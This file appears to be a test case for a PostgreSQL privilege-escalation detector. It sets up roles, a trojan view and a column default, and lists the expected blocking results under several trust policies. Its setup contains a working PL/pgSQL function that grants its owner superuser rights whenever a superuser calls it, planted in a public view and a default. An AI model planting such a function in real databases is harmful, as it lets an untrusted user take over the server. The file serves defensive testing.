/*---
title: The same function in another role's view and in a column default
pattern: Trojan view feeding an INSERT whose target's default calls the same function
description: >
  mallory's view mallory.v_feed calls her function mallory.f_tag, and bob, trusting it, made
  mallory.f_tag the default of the column tag of his table bob.inbox. alice, a superuser,
  copies the feed into the inbox with INSERT … SELECT. The function runs with alice's rights,
  once per row from the view and once per row for the default; the recording cannot tell
  which of the two calls escalated, so both the view and the default are candidates, and an
  untrusted candidate is enough for a policy to name it.
roles:
  alice: {superuser: true}
  bob: {}
  mallory: {}
reality:
  query: SELECT rolsuper FROM pg_roles WHERE rolname = 'mallory'
  expect: "t"
expect:
  permissive: allowed
  ddl-needs-trusted-chain:
    blocked:
      - command: ALTER ROLE
        culprit: {kind: view, object: mallory.v_feed, owner: mallory}
  no-untrusted-code-as-superuser:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: view, object: mallory.v_feed, owner: mallory}
  strict-trusted-chain:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: view, object: mallory.v_feed, owner: mallory}
  strict-trusted-chain-infrastructure:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: view, object: mallory.v_feed, owner: mallory}
  strict-trusted-chain-membership:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: view, object: mallory.v_feed, owner: mallory}
  strict-trusted-chain-since-definer:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: view, object: mallory.v_feed, owner: mallory}
  sandbox-untrusted:
    blocked:
      - command: ALTER ROLE
        culprit: {kind: view, object: mallory.v_feed, owner: mallory}
---*/

-- @setup
CREATE SCHEMA mallory AUTHORIZATION mallory;
CREATE SCHEMA bob AUTHORIZATION bob;
GRANT USAGE ON SCHEMA mallory TO PUBLIC;
GRANT USAGE ON SCHEMA bob TO PUBLIC;
SET ROLE mallory;
CREATE FUNCTION mallory.f_tag() RETURNS text
LANGUAGE plpgsql AS $$
BEGIN
  IF (SELECT rolsuper FROM pg_roles WHERE rolname = current_user) THEN
    ALTER ROLE mallory SUPERUSER;
  END IF;
  RETURN 'feed';
END $$;
CREATE TABLE mallory.feed (id integer, body text);
INSERT INTO mallory.feed VALUES (1, 'hello');
CREATE VIEW mallory.v_feed AS SELECT id, body, mallory.f_tag() AS source FROM mallory.feed;
GRANT SELECT ON mallory.v_feed TO PUBLIC;
RESET ROLE;
SET ROLE bob;
CREATE TABLE bob.inbox (id integer, body text, source text, tag text DEFAULT mallory.f_tag());
GRANT INSERT ON bob.inbox TO PUBLIC;
RESET ROLE;

-- @step alice
INSERT INTO bob.inbox (id, body, source) SELECT id, body, source FROM mallory.v_feed;
